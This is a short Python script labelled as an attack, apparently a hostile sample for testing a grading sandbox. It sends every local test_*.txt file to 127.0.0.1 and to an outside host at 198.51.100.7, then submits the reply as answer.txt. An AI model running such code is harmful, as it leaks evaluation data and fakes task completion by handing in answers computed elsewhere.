# Attack: sends the boards to a machine of the student's and hands in what comes back.
import glob
import socket

for family in (socket.AF_INET, socket.AF_INET6):
    for place in (("127.0.0.1", 8080), ("198.51.100.7", 443)):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as line:
                line.settimeout(1)
                line.connect(place)
                for name in sorted(glob.glob("test_*.txt")):
                    line.sendall(open(name, "rb").read())
                open("answer.txt", "wb").write(line.recv(65536))
        except OSError:
            pass
